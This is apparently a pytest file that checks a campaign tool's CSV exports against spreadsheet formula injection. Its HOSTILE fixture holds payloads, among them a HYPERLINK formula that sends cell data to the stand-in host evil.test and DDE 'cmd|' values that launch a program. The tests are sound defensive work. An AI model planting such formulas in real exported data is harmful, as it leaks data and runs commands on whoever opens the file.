"""Every CSV the program writes opens in a spreadsheet as typed: no cell runs as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from campaign.store import Store
from tests.callfactory import send_letters
from tests.factories import TODAY, add_prospect, store_at

HOSTILE = {
    "company": '=HYPERLINK("http://evil.test/?d="&A1,"Acme")',
    "contact": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "+VP",
    "phone": "-1 217 555 0100",
    "street": "=cmd|'/C calc'!A0",
    "city": "\t=1+1",
}


@pytest.fixture
def store(campaign_home: Path, sender_config: Path) -> Iterator[Store]:
    s = store_at(campaign_home)
    add_prospect(s, email="", **HOSTILE)
    yield s
    s.close()


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_safe(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (key, value)


def test_prospects_csv_quotes_formulas(run, store: Store) -> None:
    result = run("prospects", "--format", "csv")
    assert result.exit_code == 0, result.output
    (row,) = cells(result.stdout)
    assert row["company"] == "'" + HOSTILE["company"]
    assert row["contact"] == "'" + HOSTILE["contact"]
    assert_safe([row])


def test_calls_csv_quotes_formulas(run, store: Store) -> None:
    send_letters(store, store.list_prospects(), TODAY)
    result = run("calls", "--due", "all", "--format", "csv")
    assert result.exit_code == 0, result.output
    (row,) = cells(result.stdout)
    assert row["company"] == "'" + HOSTILE["company"]
    assert_safe([row])


def test_the_print_packs_manifest_quotes_formulas(run, store: Store, campaign_home: Path) -> None:
    result = run("send")
    assert result.exit_code == 0, result.output
    (manifest,) = campaign_home.glob("output/print-pack-*/manifest.csv")
    (row,) = cells(manifest.read_text(encoding="utf-8"))
    assert row["company"] == "'" + HOSTILE["company"]
    assert row["contact"] == "'" + HOSTILE["contact"]
    assert_safe([row])
